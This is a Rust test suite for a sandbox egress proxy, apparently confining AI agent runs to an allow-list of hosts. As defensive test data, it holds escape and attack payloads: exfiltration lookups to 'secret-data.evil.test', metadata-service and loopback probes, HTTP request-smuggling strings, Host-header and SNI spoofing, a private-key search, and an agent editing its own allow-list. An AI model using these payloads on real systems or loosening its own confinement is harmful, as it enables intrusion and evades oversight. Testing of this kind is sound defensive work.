//! The network: what is reached past the proxy, and through it.
//!
//! The control of what goes past it is a plain process; of what goes through it, `an_allowed_host_is_reached`: the same requests
//! to a host of the list arrive.

use std::net::{TcpListener, UdpSocket};

use crate::{
    upstream::ARRIVED,
    world::{Attempt, World},
};

const DEFINITION: &str = "\
[environment]
network = ['files.site.test', 'name.public.test', 'read.site.test fetch', 'odd.site.test:8080', '*.wild.site.test']
[checks]
network = []
[environment.secrets]
API = { proxy = 'api.site.test' }
";

const SECRET: &str = "s3cret-of-the-api";

async fn world() -> World {
    let world = World::defined(DEFINITION).await;
    world.secret("API", SECRET).await;
    world
}

/// Speaks with the proxy byte by byte; each line of what is printed begins with a status, or the reason of a failure.
const CLIENT: &str = r"
import os, socket, ssl, sys
def say(data, port=19128):
    s = socket.create_connection(('127.0.0.1', port)); s.settimeout(30)
    try:
        s.sendall(data if isinstance(data, bytes) else data.encode())
        s.shutdown(socket.SHUT_WR)
        told = b''
        while piece := s.recv(65536): told += piece
    except OSError as error: return str(error)
    return told.decode(errors='replace')
def get(url, host=None, more='', method='GET', body=''):
    host = host or url.split('/')[2]
    return say(f'{method} {url} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n{body}')
def tunnel(to, hello=None):
    s = socket.create_connection(('127.0.0.1', 19128)); s.settimeout(30)
    s.sendall(f'CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n'.encode())
    head = b''
    while not head.endswith(b'\r\n\r\n'):
        piece = s.recv(1)
        if not piece: break
        head += piece
    return s, head.decode()
def secure(to, name, request=None, check=True):
    s, head = tunnel(to)
    if ' 200 ' not in head.split('\r\n')[0]: return head
    try:
        context = ssl.create_default_context(cafile=os.environ.get('SSL_CERT_FILE'))
        if not check: context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
        t = context.wrap_socket(s, server_hostname=name)
        t.sendall((request or f'GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n').encode())
        told = b''
        while piece := t.recv(65536): told += piece
        return told.decode()
    except OSError as error: return 'FAILED ' + str(error)
";

async fn ask(attempt: &Attempt<'_>, code: &str) -> String {
    attempt.python(&format!("{CLIENT}\n{code}")).await
}

/// Runs the client's code in an attempt: nothing may arrive, and the proxy must be there to refuse.
async fn nothing_arrives(code: &str) -> (World, String, Vec<String>) {
    let world = world().await;
    let (printed, refused) = {
        let attempt = world.attempt(1).await;
        let printed = ask(&attempt, code).await;
        (printed, attempt.refused())
    };
    assert!(!printed.contains(ARRIVED) && !printed.contains("Traceback"), "{printed}");
    assert_eq!(world.upstreams.seen(), Vec::<String>::new(), "{printed}");
    (world, printed, refused)
}

#[tokio::test]
async fn an_allowed_host_is_reached() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    let printed = ask(&attempt, "print(get('http://files.site.test/x')); print(secure('files.site.test:443', 'files.site.test', check=False)); print(secure('read.site.test:443', 'read.site.test'))").await;
    assert_eq!(printed.matches(ARRIVED).count(), 3, "{printed}");
    assert_eq!(world.upstreams.seen().len(), 3);
}

/// Past the proxy.
async fn past(code: &str, reached: &str) {
    let world = world().await;
    let (plain, confined) = (world.plain().await.python(code).await, world.attempt(1).await.python(code).await);
    assert!(plain.contains(reached), "the control: {plain}");
    assert!(!confined.contains(reached) && !confined.contains("Traceback"), "{confined}");
}

#[tokio::test]
async fn the_hosts_loopback_is_reached() {
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = host.local_addr().unwrap().port();
    past(
        &format!("import socket; print('reached' if not socket.socket().connect_ex(('127.0.0.1', {port})) else 'not')"),
        "reached",
    )
    .await;
}

#[tokio::test]
async fn the_hosts_loopback_is_reached_by_other_names() {
    let Ok(host) = TcpListener::bind("[::]:0") else {
        eprintln!("SKIPPED: this machine has no IPv6");
        return;
    };
    let port = host.local_addr().unwrap().port();
    let code = format!(
        "import socket\nfor family, name in [(2, '0.0.0.0'), (2, '127.8.8.8'), (10, '::1'), (10, '::ffff:127.0.0.1'), (10, '::')]:\n \
         print(socket.socket(family).connect_ex((name, {port})) or 'reached')"
    );
    past(&code, "reached").await;
}

#[tokio::test]
async fn datagrams_are_sent_to_the_host() {
    let host = UdpSocket::bind("127.0.0.1:0").unwrap();
    host.set_nonblocking(true).unwrap();
    let world = world().await;
    let code = format!(
        "import socket; socket.socket(2, 2).sendto(b'x', ('127.0.0.1', {}))",
        host.local_addr().unwrap().port()
    );
    world.attempt(1).await.python(&code).await;
    assert_eq!(host.recv(&mut [0; 9]).unwrap_err().kind(), std::io::ErrorKind::WouldBlock);
    world.plain().await.python(&code).await;
    assert_eq!(host.recv(&mut [0; 9]).unwrap(), 1);
}

#[tokio::test]
async fn the_metadata_service_and_private_networks_are_reached() {
    // No control: nobody knows what is there. There is no route at all, which is what is asserted.
    let code = "\
import errno, socket
for family, name in [(2, '169.254.169.254'), (2, '100.100.100.200'), (2, '10.0.0.1'), (2, '192.168.0.1'), (2, '172.17.0.1'), (2, '1.1.1.1'),
                     (10, 'fd00:ec2::254'), (10, '2606:4700::1111')]:
    for kind in [1, 2]:
        print(errno.errorcode.get(socket.socket(family, kind).connect_ex((name, 80)), 'reached'))
print(socket.if_nameindex())";
    let printed = world().await.attempt(1).await.python(code).await;
    assert_eq!(printed, "ENETUNREACH\n".repeat(16) + "[(1, 'lo')]\n");
}

#[tokio::test]
async fn data_leaves_by_names_that_are_looked_up() {
    let code = "\
import socket
for ask in [lambda: socket.getaddrinfo('secret-data.evil.test', 80), lambda: socket.socket(2, 2).sendto(b'x', ('8.8.8.8', 53)),
            lambda: socket.gethostbyaddr('8.8.8.8')]:
    try: ask(); print('answered')
    except OSError as error: print('no')
print(get('http://secret-data.evil.test/')[:12]); print(tunnel('secret-data.evil.test:443')[1][:12])";
    let (world, printed, _) = nothing_arrives(code).await;
    assert_eq!(printed, "no\nno\nno\nHTTP/1.1 403\nHTTP/1.1 403\n");
    assert!(!world.upstreams.asked().iter().any(|name| name.contains("secret-data")), "{:?}", world.upstreams.asked());
}

#[tokio::test]
async fn a_device_is_added_to_the_network() {
    let world = world().await;
    let script = "ip link add x type dummy; ip addr add 10.0.0.2/8 dev lo; ip route add default dev lo; ip link set lo down; \
                  python3 -c 'import socket; socket.socket(2, 2).setsockopt(1, 25, b\"eth0\")'; cat /proc/net/route | wc -l; cat /proc/net/dev | wc -l";
    let printed = world.attempt(1).await.sh(script).await;
    assert!(printed.ends_with("1\n3\n"), "{printed}");
}

#[tokio::test]
async fn a_host_that_is_not_allowed_is_asked_for() {
    let (_, printed, refused) = nothing_arrives(
        "print(get('http://other.site.test/')[:12]); print(tunnel('other.site.test:443')[1][:12]); print(get('http://site.test/')[:12]); \
         print(get('http://wild.site.test/')[:12]); print(get('http://files.site.test.evil.test/')[:12]); print(get('http://xfiles.site.test/')[:12])",
    )
    .await;
    assert_eq!(printed, "HTTP/1.1 403\n".repeat(6));
    assert!(refused[0].starts_with("other.site.test:80 not on the allow-list"), "{refused:?}");
}

#[tokio::test]
async fn a_tunnel_is_opened_to_an_address() {
    let world = World::defined(DEFINITION).await;
    let (plain, secure) = (world.upstreams.plain, world.upstreams.secure);
    let attempt = world.attempt(1).await;
    let names = format!(
        "['127.0.0.1:{}', '127.0.0.1:{}', '0x7f000001:443', '2130706433:443', '0177.0.0.1:443', '127.1:443', '[::1]:443', '[::ffff:127.0.0.1]:443', \
         'localhost:443', '169.254.169.254:80', '10.0.0.1:443', '1.1.1.1:443', '[fe80::1%lo]:443']",
        plain.port(),
        secure.port()
    );
    let printed =
        ask(&attempt, &format!("for to in {names}: print(tunnel(to)[1][:10], get(f'http://{{to}}/')[:10])")).await;
    assert_eq!(printed.lines().count(), 13, "{printed}");
    assert!(printed.lines().all(|line| line == "HTTP/1.1 4 HTTP/1.1 4"), "{printed}");
    assert_eq!(world.upstreams.seen(), Vec::<String>::new());
}

#[tokio::test]
async fn another_port_of_an_allowed_host_is_reached() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    world.upstreams.lead("files.site.test", &[world.upstreams.plain]);
    let printed = ask(&attempt, "for port in [22, 25, 8080, 0, 65535]: print(tunnel(f'files.site.test:{port}')[1][:10], get(f'http://files.site.test:{port}/')[:10])").await;
    assert!(printed.lines().all(|line| line == "HTTP/1.1 4 HTTP/1.1 4"), "{printed}");
    assert_eq!(world.upstreams.seen(), Vec::<String>::new());
}

#[tokio::test]
async fn an_allowed_name_leads_to_a_private_address() {
    let world = world().await;
    world.upstreams.lead("name.public.test", &[world.upstreams.plain]);
    let attempt = world.attempt(1).await;
    let printed =
        ask(&attempt, "print(get('http://name.public.test/')[:12]); print(tunnel('name.public.test:443')[1][:12])")
            .await;
    assert_eq!(printed, "HTTP/1.1 403\n".repeat(2));
    assert!(attempt.refused()[0].contains("resolves to a loopback address"), "{:?}", attempt.refused());
    // Even a name that the operator lets lead inside never leads to the service that hands out the machine's own keys.
    for address in ["169.254.169.254:80", "[fd00:ec2::254]:80", "[::ffff:169.254.169.254]:80", "100.100.100.200:80"] {
        world.upstreams.lead("files.site.test", &[address.parse().unwrap()]);
        let printed = ask(&attempt, "print(get('http://files.site.test/latest/meta-data/')[:12])").await;
        assert_eq!(printed, "HTTP/1.1 403\n", "{address}");
    }
    assert_eq!(world.upstreams.seen(), Vec::<String>::new());
}

#[tokio::test]
async fn a_name_is_bound_to_another_address_after_it_was_looked_at() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    let looks = |name: &str| world.upstreams.asked().iter().filter(|asked| *asked == name).count();
    // Public, and nobody's: of the addresses that no registry has given to anyone.
    let public = "[2000::1]:80".parse().unwrap();
    for (request, looked) in
        [("get('http://name.public.test/')", 1), ("secure('name.public.test:443', 'name.public.test')", 2)]
    {
        // What was looked at is what is tried; the private address that comes next is asked for by the next request only.
        world.upstreams.lead("name.public.test", &[public, world.upstreams.plain]);
        let printed = ask(&attempt, &format!("print({request})")).await;
        assert!(printed.starts_with("HTTP/1.1 502"), "{printed}");
        assert_eq!(looks("name.public.test"), looked);
    }
    assert!(attempt.refused().iter().all(|why| why.contains("cannot be reached")), "{:?}", attempt.refused());
    let printed = ask(&attempt, "print(get('http://name.public.test/')[:12])").await;
    assert_eq!((printed.as_str(), looks("name.public.test")), ("HTTP/1.1 403\n", 3));
    assert_eq!(world.upstreams.seen(), Vec::<String>::new());
    // The control: the same where the first address answers.
    world.upstreams.lead("files.site.test", &[world.upstreams.plain, "169.254.169.254:80".parse().unwrap()]);
    assert!(ask(&attempt, "print(get('http://files.site.test/'))").await.contains(ARRIVED));
    assert_eq!(looks("files.site.test"), 1);
}

#[tokio::test]
async fn a_redirect_leads_inside() {
    let world = world().await;
    world.upstreams.lead("name.public.test", &[world.upstreams.plain]);
    let attempt = world.attempt(1).await;
    let port = world.upstreams.plain.port();
    let script = format!(
        "for to in http://127.0.0.1:{port}/ http://name.public.test/ http://other.site.test/ http://169.254.169.254/ file:///etc/hostname; do \
         curl -sL --max-time 20 -o /dev/null -w '%{{http_code}} ' \"http://files.site.test/?to=$to\"; done"
    );
    attempt.sh(&script).await;
    // Only the five first requests arrived.
    let seen = world.upstreams.seen();
    assert_eq!(seen.len(), 5, "{seen:?}");
    assert!(seen.iter().all(|head| head.starts_with("GET /?to=")), "{seen:?}");
}

#[tokio::test]
async fn tls_names_another_host_than_the_tunnel() {
    let (_, printed, refused) = nothing_arrives(
        "print(secure('files.site.test:443', 'other.site.test', check=False)[:6]); print(secure('read.site.test:443', 'other.site.test', check=False)[:6]); \
         print(secure('api.site.test:443', 'files.site.test', check=False)[:6])",
    )
    .await;
    assert!(!printed.contains("HTTP/1"), "{printed}");
    assert!(refused.len() >= 2, "{refused:?}");
}

#[tokio::test]
async fn a_tunnel_carries_something_else_than_tls() {
    let (_, printed, _) = nothing_arrives(
        "for first in [b'SSH-2.0-x\\r\\n', b'GET / HTTP/1.1\\r\\nHost: other.site.test\\r\\n\\r\\n', b'\\x16\\x03\\x01\\xff\\xff', b'\\x80\\x2e\\x01\\x00\\x02', b'', b'\\0' * 70000]:\n \
         s, head = tunnel('files.site.test:443')\n try: s.sendall(first); s.shutdown(1); print(head[:12], s.recv(100)[:3])\n except OSError: print(head[:12], 'shut')",
    )
    .await;
    assert!(printed.lines().all(|line| line.starts_with("HTTP/1.1 200")), "{printed}");
}

#[tokio::test]
async fn tls_without_a_name_goes_through() {
    nothing_arrives(
        "s, head = tunnel('files.site.test:443')\ncontext = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE\n\
         try: t = context.wrap_socket(s); t.sendall(b'GET / HTTP/1.1\\r\\nHost: files.site.test\\r\\n\\r\\n'); print(t.recv(9999).decode())\nexcept OSError as error: print(error)",
    )
    .await;
}

#[tokio::test]
async fn the_host_header_names_another_host() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    ask(&attempt, "get('http://files.site.test/', host='other.site.test'); get('http://files.site.test/', more='Host: other.site.test\\r\\n'); \
         secure('read.site.test:443', 'read.site.test', 'GET / HTTP/1.1\\r\\nHost: other.site.test\\r\\nConnection: close\\r\\n\\r\\n'); \
         get('http://files.site.test/', more='X-Forwarded-Host: x\\r\\n')").await;
    // What arrives names the host that was allowed.
    for head in world.upstreams.seen() {
        assert!(!head.contains("other.site.test"), "{head}");
    }
}

#[tokio::test]
async fn a_request_is_smuggled_in_another() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    let code = r"
inner = 'GET http://other.site.test/smuggled HTTP/1.1\r\nHost: other.site.test\r\n\r\n'
post = 'POST http://files.site.test/a HTTP/1.1\r\nHost: files.site.test\r\n'
for lengths in ['Content-Length: 60\r\nTransfer-Encoding: chunked\r\n', 'Transfer-Encoding: chunked\r\nContent-Length: 60\r\n', 'Transfer-Encoding: xchunked\r\n',
                'Transfer-Encoding : chunked\r\n', 'Transfer-Encoding: chunked, identity\r\n', 'Content-Length: 5\r\nContent-Length: 6\r\n', 'Content-Length: +5\r\n',
                'Transfer-Encoding: \x0bchunked\r\n', 'X: y\r\n Transfer-Encoding: chunked\r\n', 'X: a\rTransfer-Encoding: chunked\r\n', 'X\0: y\r\n',
                'Expect: 100-continue\r\nContent-Length: 1\r\n', 'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: x\r\nContent-Length: 0\r\n']:
    say(post + lengths + '\r\n0\r\n\r\n' + inner)
for body in ['5;\n0\r\n\r\n', '-1\r\n', '5\r\nabcdefg\r\n0\r\n\r\n', '0x5\r\nabcde\r\n0\r\n\r\n', 'ffffffffffffffffff\r\n', '0\r\nHost: other.site.test\r\n\r\n']:
    say(post + 'Transfer-Encoding: chunked\r\n\r\n' + body + inner)
for line in ['GET  http://files.site.test/ HTTP/1.1', 'GET http://files.site.test/ http://other.site.test/smuggled HTTP/1.1', 'GET http://files.site.test\\@other.site.test/smuggled HTTP/1.1',
             'GET http://files.site.test@other.site.test/smuggled HTTP/1.1', 'GET //other.site.test/smuggled HTTP/1.1', 'PRI * HTTP/2.0']:
    say(line + '\r\nHost: files.site.test\r\nConnection: close\r\n\r\n')
say('CONNECT files.site.test:80 HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nabcde' + inner)
say('CONNECT files.site.test:80 HTTP/1.1\r\nHost: x\r\n\r\n' + inner)
print('said')";
    assert_eq!(ask(&attempt, code).await, "said\n");
    for head in world.upstreams.seen() {
        assert!(!head.contains("smuggled") && !head.contains("other.site.test"), "{head}");
        assert!(
            !(head.to_lowercase().contains("transfer-encoding") && head.to_lowercase().contains("content-length")),
            "{head}"
        );
    }
}

#[tokio::test]
async fn something_is_pushed_to_a_host_for_fetching() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    let printed = ask(&attempt, "\
for method in ['POST', 'PUT', 'DELETE', 'PATCH', 'get', 'PROPFIND']:
    print(get('http://read.site.test/', method=method)[:12], secure('read.site.test:443', 'read.site.test', f'{method} / HTTP/1.1\\r\\nHost: read.site.test\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n')[:12])
for path in ['/x.git/git-receive-pack', '/x.git/info/refs?service=git-receive-pack']:
    print(get('http://read.site.test' + path, method='POST')[:12], get('http://read.site.test' + path)[:12])").await;
    let seen = world.upstreams.seen();
    assert!(
        !seen.iter().any(|head| !head.starts_with("GET ") || head.contains("service=git-receive-pack")),
        "{seen:?}\n{printed}"
    );
    // Reading goes through.
    assert!(ask(&attempt, "print(get('http://read.site.test/'))").await.contains(ARRIVED));
}

#[tokio::test]
async fn the_stamped_header_is_asked_for_elsewhere() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    // The control: it is stamped where it belongs, and cannot be seen to be.
    let printed = ask(&attempt, "print(secure('api.site.test:443', 'api.site.test'))").await;
    assert!(world.upstreams.seen()[0].contains(SECRET), "{printed}");
    assert!(printed.contains(ARRIVED) && !printed.contains(SECRET), "{printed}");
    let printed = ask(&attempt, "print(get('http://api.site.test/')[:12]); print(secure('files.site.test:443', 'files.site.test', check=False)); \
         print(secure('api.site.test:443', 'api.site.test', 'GET / HTTP/1.1\\r\\nHost: files.site.test\\r\\nConnection: close\\r\\n\\r\\n')); \
         print(secure('read.site.test:443', 'read.site.test', 'GET / HTTP/1.1\\r\\nHost: api.site.test\\r\\nConnection: close\\r\\n\\r\\n'))").await;
    assert!(!printed.contains(SECRET), "{printed}");
    for head in &world.upstreams.seen()[1..] {
        assert!(!head.contains(SECRET) || head.to_lowercase().contains("host: api.site.test"), "{head}");
    }
}

#[tokio::test]
async fn a_check_reaches_what_a_turn_may() {
    let world = world().await;
    let check = world.check().await;
    let printed =
        ask(&check, "print(get('http://files.site.test/')[:12]); print(tunnel('api.site.test:443')[1][:12])").await;
    assert_eq!(printed, "HTTP/1.1 403\n".repeat(2));
    assert_eq!(world.upstreams.seen(), Vec::<String>::new());
}

#[tokio::test]
async fn the_proxys_place_is_taken() {
    let world = world().await;
    let code = "\
import socket
for family, host in [(2, '127.0.0.1'), (2, '0.0.0.0'), (10, '::1'), (10, '::')]:
    for option in [0, 2, 15]:
        s = socket.socket(family)
        if option: s.setsockopt(1, option, 1)
        try: s.bind((host, 19128)); s.listen(); print('taken', host, option)
        except OSError: pass
print('tried')";
    assert_eq!(world.attempt(1).await.python(code).await, "tried\n");
}

#[tokio::test]
async fn the_agent_widens_its_own_list() {
    let world = world().await;
    let attempt = world.attempt(1).await;
    attempt.sh("sed -i \"s/files.site/other.site/\" overnight.toml; git commit -qam wider").await;
    attempt.snapshot().await.unwrap();
    attempt.sandbox.kill().await;
    let again = world.attempt(1).await;
    let printed = ask(&again, "print(get('http://other.site.test/')[:12])").await;
    assert_eq!(printed, "HTTP/1.1 403\n");
}

#[tokio::test]
async fn another_attempts_authority_is_believed() {
    // What one attempt's proxy signs, no other attempt and nobody on the host believes.
    let world = world().await;
    let (attempt, other) = (world.attempt(1).await, world.attempt(2).await);
    let own = "python3 -c \"import os, re; print(re.findall('BEGIN CERT[^-]*-----[^-]*', open(os.environ['SSL_CERT_FILE']).read())[-1])\"";
    let (one, two) = (attempt.sh(own).await, other.sh(own).await);
    assert!(one.contains("BEGIN") && one != two, "{one}");
    let keys = "find / -xdev -name '*.pem' 2>/dev/null | xargs grep -l 'PRIVATE KEY' 2>/dev/null | grep -v -e /usr/ -e test; cat $SSL_CERT_FILE | grep -c PRIVATE";
    assert_eq!(attempt.sh(keys).await, "0\n");
}

#[tokio::test]
async fn the_proxy_is_flooded() {
    let world = world().await;
    let (attempt, other) = (world.attempt(1).await, world.attempt(2).await);
    let flood = "held = []\nfor n in range(600):\n s = socket.create_connection(('127.0.0.1', 19128)); s.setblocking(False); s.send(b'GET '); held.append(s)\n\
                 print('flooded', flush=True); import time; time.sleep(50)";
    let flood = format!("{CLIENT}\n{flood}");
    let mut flooder = attempt.start(&["/usr/bin/python3", "-c", &flood]).await;
    crate::world::printed(&mut *flooder, "flooded").await;
    assert!(ask(&other, "print(get('http://files.site.test/'))").await.contains(ARRIVED));
}
